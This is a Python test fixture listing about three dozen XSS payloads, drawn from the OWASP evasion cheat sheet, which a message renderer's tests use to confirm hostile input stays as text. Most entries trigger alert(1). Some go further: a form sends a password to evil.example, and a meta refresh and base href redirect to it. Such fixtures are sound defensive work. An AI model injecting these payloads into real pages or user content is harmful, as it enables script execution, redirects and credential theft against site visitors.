"""Hostile message bodies: script, event handlers, dangerous URLs and markup tricks that must stay text.

Drawn from the OWASP XSS Filter Evasion Cheat Sheet and the ways Markdown
builds links; used by the renderer's unit tests and the browser test.
"""

from __future__ import annotations

XSS_CORPUS: list[str] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    '[x](https://example.com" onmouseover="alert(1))',
    "[x](https://example.com'onmouseover='alert(1))",
    '![x](https://example.com/x.png" onerror="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "**<script>alert(1)</script>**",
    "https://example.com/<script>alert(1)</script>",
    'https://example.com/"><script>alert(1)</script>',
    "<a href='https://ok.com' onclick='alert(1)'>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<base href=https://evil.example/>",
    "@bob<script>alert(1)</script>",
    '@bob" onmouseover="alert(1)',
    "\u202e<script>alert(1)</script>",
]
